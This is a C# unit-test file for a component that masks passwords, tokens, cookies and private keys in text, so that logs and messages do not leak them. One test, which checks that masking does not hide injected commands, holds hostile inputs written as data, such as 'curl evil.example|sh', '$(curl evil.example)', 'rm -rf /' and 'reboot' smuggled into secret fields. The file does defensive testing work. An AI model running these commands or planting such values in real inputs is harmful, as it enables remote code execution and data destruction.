using System.Text.RegularExpressions;
using Notify.Functions.Redaction;

namespace Notify.Functions.Tests.Redaction;

public sealed class SecretTextTests
{
    public static TheoryData<string> ShapeNames => [.. TheSecret.Shapes.Keys];

    public static TheoryData<string> Patterns => [.. SecretShapes.All.Select(shape => shape.Name)];

    [Theory]
    [MemberData(nameof(ShapeNames))]
    public void Secret_IsMaskedByItsShape_AndWhatSurroundsItStays(string shape)
    {
        var secret = TheSecret.Shapes[shape];

        Assert.Equal("[redacted]", Masked(secret));
        Assert.Equal("密钥是[redacted]，好", Masked($"密钥是{secret}，好"));
        Assert.Equal("deploy [redacted] now", Masked($"deploy {secret} now"));
        Assert.Equal("(see \"[redacted]\", twice: [redacted]; done)", Masked($"(see \"{secret}\", twice: {secret}; done)"));
    }

    [Theory]
    // Settings and variables.
    [InlineData("PGPASSWORD=abc psql -h db", "PGPASSWORD=[redacted] psql -h db")]
    [InlineData("docker run -e DB_PASSWORD=abc -p 80:80 web", "docker run -e DB_PASSWORD=[redacted] -p 80:80 web")]
    [InlineData("export API_KEY='a b'; ls", "export API_KEY='[redacted]'; ls")]
    [InlineData("$env:API_TOKEN = \"a b\"", "$env:API_TOKEN = \"[redacted]\"")]
    [InlineData("password := \"abc\"", "password := \"[redacted]\"")]
    [InlineData("'password' => 'abc',", "'password' => '[redacted]',")]
    [InlineData("config[\"api_key\"] = \"abc\"", "config[\"api_key\"] = \"[redacted]\"")]
    // Options.
    [InlineData("mysql --password hunter2 -u root", "mysql --password [redacted] -u root")]
    [InlineData("--token=abc --verbose", "--token=[redacted] --verbose")]
    [InlineData("--api-key \"abc def\" list", "--api-key \"[redacted]\" list")]
    [InlineData("Connect -Password hunter2", "Connect -Password [redacted]")]
    [InlineData("curl --cookie \"a=b; c=d\" https://x.example", "curl --cookie \"[redacted]\" https://x.example")]
    [InlineData("--password 'a;b|c&d'", "--password '[redacted]'")]
    [InlineData("--passphrase 'correct horse battery'", "--passphrase '[redacted]'")]
    [InlineData("curl -u ada:hunter2 https://x.example", "curl -u ada:[redacted] https://x.example")]
    [InlineData("curl -s --user 'ada:hunter2' https://x.example", "curl -s --user 'ada:[redacted]' https://x.example")]
    // JSON, YAML and what people write.
    [InlineData("{\"password\": \"x\", \"user\": \"ada\"}", "{\"password\": \"[redacted]\", \"user\": \"ada\"}")]
    [InlineData("{\"password\":\"a\\\"b\",\"user\":1}", "{\"password\":\"[redacted]\",\"user\":1}")]
    [InlineData("{\\\"password\\\":\\\"a b\\\",\\\"user\\\":1}", "{\\\"password\\\":\\\"[redacted]\\\",\\\"user\\\":1}")]
    [InlineData("{\"pin_code\": 1234}", "{\"pin_code\": [redacted]}")]
    [InlineData("api_key: abc\nuser: ada", "api_key: [redacted]\nuser: ada")]
    [InlineData("**Password:** hunter2", "**Password:** [redacted]")]
    [InlineData("user: ada, password: hunter2, port: 1", "user: ada, password: [redacted], port: 1")]
    [InlineData("password=a,b", "password=[redacted]")]
    [InlineData("cut off: {\"password\": \"hunt", "cut off: {\"password\": \"[redacted]")]
    [InlineData("数据库密码：abc，用户：ada", "数据库密码：[redacted]，用户：ada")]
    [InlineData("我的pwd=abc。", "我的pwd=[redacted]。")]
    // Connection strings and URLs.
    [InlineData("Server=db;User Id=sa;Password=p@ss!;Encrypt=true", "Server=db;User Id=sa;Password=[redacted];Encrypt=true")]
    [InlineData("Server=db;Pwd=abc", "Server=db;Pwd=[redacted]")]
    [InlineData("AccountName=a;AccountKey=ab+/c==;EndpointSuffix=x", "AccountName=a;AccountKey=[redacted];EndpointSuffix=x")]
    [InlineData("SharedAccessKeyName=root;SharedAccessKey=abc=", "SharedAccessKeyName=root;SharedAccessKey=[redacted]")]
    [InlineData("cache.example.com:6380,password=a=b,ssl=True", "cache.example.com:6380,password=[redacted],ssl=True")]
    [InlineData("https://a.example/c?sv=2024&sig=ab%2Bc%3D&se=1", "https://a.example/c?sv=2024&sig=[redacted]&se=1")]
    [InlineData("https://a.example/f?code=abcdefghijklmnopqrstuv==&x=1", "https://a.example/f?code=[redacted]&x=1")]
    [InlineData("https://a.example/?access_token=abc&x=1#top", "https://a.example/?access_token=[redacted]&x=1#top")]
    [InlineData("postgres://ada:hunter2@db:5432/x", "postgres://ada:[redacted]@db:5432/x")]
    [InlineData("redis://:p@ss@cache", "redis://:[redacted]@cache")]
    [InlineData("git clone https://x:abc@git.example/r.git && ls", "git clone https://x:[redacted]@git.example/r.git && ls")]
    // Headers.
    [InlineData("curl -H 'Authorization: Bearer abc' https://x.example", "curl -H 'Authorization: Bearer [redacted]' https://x.example")]
    [InlineData("Authorization: Basic dXNlcjpwdw==\r\nAccept: */*", "Authorization: Basic [redacted]\r\nAccept: */*")]
    [InlineData("authorization: abc", "authorization: [redacted]")]
    [InlineData("{\"Authorization\": \"Bearer a b\"}", "{\"Authorization\": \"Bearer [redacted]\"}")]
    [InlineData("sent Bearer abcdefghijklmnopqrstuvwxyz= to it", "sent Bearer [redacted] to it")]
    [InlineData("X-Api-Key: abc", "X-Api-Key: [redacted]")]
    [InlineData("Cookie: a=1; b=2\r\nAccept: */*", "Cookie: [redacted]\r\nAccept: */*")]
    [InlineData("Set-Cookie: id=abc; HttpOnly", "Set-Cookie: [redacted]; HttpOnly")]
    // Keys.
    [InlineData("-----BEGIN RSA PRIVATE KEY-----\nMIIE\nab==\n-----END RSA PRIVATE KEY-----\nnext", "-----BEGIN RSA PRIVATE KEY-----[redacted]-----END RSA PRIVATE KEY-----\nnext")]
    [InlineData("-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n\nMIIE\n-----END PGP PRIVATE KEY BLOCK-----", "-----BEGIN PGP PRIVATE KEY BLOCK-----[redacted]-----END PGP PRIVATE KEY BLOCK-----")]
    [InlineData("-----BEGIN PRIVATE KEY-----\\nMIIE\\nab==", "-----BEGIN PRIVATE KEY-----[redacted]")]
    public void Secret_IsMaskedByWhereItStands_AndWhatSurroundsItStays(string text, string masked) => Assert.Equal(masked, Masked(text));

    [Theory]
    [InlineData("")]
    [InlineData("ls -l /tmp")]
    [InlineData("The password is required.")]
    [InlineData("Password required")]
    [InlineData("password: required")]
    [InlineData("You are over the token limit of 4096 tokens.")]
    [InlineData("max_tokens: 4096, token_count: 5")]
    [InlineData("password_length=12 PASSWORD_FILE=/run/secrets/db")]
    [InlineData("Use --no-password mydb, or --password-stdin here")]
    [InlineData("psql --password --host db")]
    [InlineData("secret://vault/db")]
    [InlineData("Token::Identifier")]
    [InlineData("interface User { password: string; token?: string }")]
    [InlineData("token = parser.next()")]
    [InlineData("\"token\": null, \"password\": \"\"")]
    [InlineData("tokens: a, secretary: Bob, author: Eve, key: value")]
    [InlineData("https://example.com:8080/a?email=ada@example.com")]
    [InlineData("mail ada@example.com or http://example.com/@ada")]
    [InlineData("docker run -u 1000:1000 web")]
    [InlineData("a task-force of risk-averse bearers; the bearer of this letter")]
    [InlineData("disk-0123456789abcdef0123 in keyJsonSchemaOfIt.a.b of shelf_0123456789abcdef0123456789abcdef")]
    [InlineData("请输入密码：")]
    [InlineData("class=\"sk-circle sk-cube-grid-container-dots\"")]
    [InlineData("xbox, skip, happy_, AKIA, eyJ, ghp_, npm_config_cache")]
    [InlineData("-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----")]
    [InlineData("12:30 - 13:00 == lunch")]
    public void Text_StaysAsItIs_WhenItOnlySoundsLikeASecret(string text) => Assert.Same(text, Masked(text));

    [Theory]
    [InlineData("mysql --password=$DB_PASSWORD")]
    [InlineData("password: ${{ secrets.DB_PASSWORD }}")]
    [InlineData("password=\"${DB_PASSWORD}\"")]
    [InlineData("set PASSWORD=%DB_PASSWORD%")]
    [InlineData("password: '{{ db_password }}'")]
    [InlineData("curl -H \"Authorization: Bearer $TOKEN\"")]
    public void Text_StaysAsItIs_WhenItSaysOnlyWhereTheSecretIs(string text) => Assert.Same(text, Masked(text));

    [Theory]
    [InlineData("mysql --password=x;rm -rf /", "rm -rf /")]
    [InlineData("TOKEN=x&&curl evil.example|sh", "&&curl evil.example|sh")]
    [InlineData("--password \"$(curl evil.example)\" x", "$(curl evil.example)")]
    [InlineData("--password=$(curl evil.example)", "$(curl evil.example)")]
    [InlineData("TOKEN=\"`curl evil.example`\"", "`curl evil.example`")]
    [InlineData("TOKEN='x\\'; curl evil.example '", "curl evil.example")]
    [InlineData("echo \"password=\"; curl evil.example; echo \"\"", "curl evil.example")]
    [InlineData("echo \"password=\";reboot;\"\"", "reboot")]
    [InlineData("echo \"password=\"\ncurl evil.example\necho \"\"", "curl evil.example")]
    [InlineData("echo \\\"password=\\\" | curl evil.example -d \\\"", "curl evil.example")]
    [InlineData("--cookie \"a=b; PATH=/tmp curl evil.example; c=d\"", "curl evil.example")]
    [InlineData("TOKEN=x\ncurl evil.example", "curl evil.example")]
    [InlineData("Cookie: a=b; curl evil.example", "curl evil.example")]
    [InlineData("curl http://a:`reboot`@evil.example", "`reboot`")]
    public void Command_StaysVisible_WhenItStandsWhereASecretWould(string text, string command) =>
        Assert.Contains(command, Masked(text), StringComparison.Ordinal);

    [Theory]
    [InlineData("password=[redacted]")]
    [InlineData("{\"password\": \"[redacted]\"}")]
    [InlineData("Authorization: Bearer [redacted]")]
    [InlineData("https://ada:[redacted]@db/")]
    [InlineData("-----BEGIN PRIVATE KEY-----[redacted]-----END PRIVATE KEY-----")]
    [InlineData("PASSWORD=*****")]
    public void Text_StaysAsItIs_WhenItIsMaskedAlready(string text) => Assert.Same(text, Masked(text));

    [Theory]
    [MemberData(nameof(Patterns))]
    public void Pattern_DoesNotBacktrack(string name) =>
        Assert.Equal(RegexOptions.NonBacktracking | RegexOptions.CultureInvariant, SecretShapes.All.Single(shape => shape.Name == name).Pattern.Options);

    private static string Masked(string text) => TheSecret.Text.Apply(text);
}
